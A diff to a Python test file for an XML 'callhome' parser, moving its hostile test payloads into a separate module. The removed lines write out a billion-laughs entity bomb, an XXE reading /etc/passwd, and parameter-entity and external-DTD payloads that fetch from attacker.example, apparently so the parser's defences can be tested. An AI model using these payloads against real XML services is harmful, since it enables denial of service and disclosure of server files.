@@ -8,6 +8,7 @@ import pytest
 from shared import callhome
 from shared.callhome import Encoding
 from shared.errors import BadRequest, PayloadTooLarge
+from tests.payloads import BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_XXE, XXE
 
 
 def test_round_trip_escapes_the_payload() -> None:
@@ -19,21 +20,6 @@ def test_round_trip_escapes_the_payload() -> None:
     assert (env.kind, env.encoding, env.payload) == ("request", Encoding.JSON, text)
 
 
-BILLION_LAUGHS = (
-    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
-    + b"".join(
-        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'.encode() for i in range(1, 10)
-    )
-    + b']>\n<CallHome xmlns="urn:ssmlab:callhome:1" version="1" kind="request">'
-    b'<Payload encoding="json">&lol9;</Payload></CallHome>'
-)
-XXE = (
-    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
-    b'<CallHome xmlns="urn:ssmlab:callhome:1" version="1" kind="request"><Payload encoding="json">&xxe;</Payload>'
-    b"</CallHome>"
-)
-PARAMETER_XXE = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % pe SYSTEM "http://attacker.example/x.dtd"> %pe;]><r/>'
-EXTERNAL_DTD = b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><r/>'
 PLAIN_DTD = b'<?xml version="1.0"?><!DOCTYPE r><r/>'
 
 
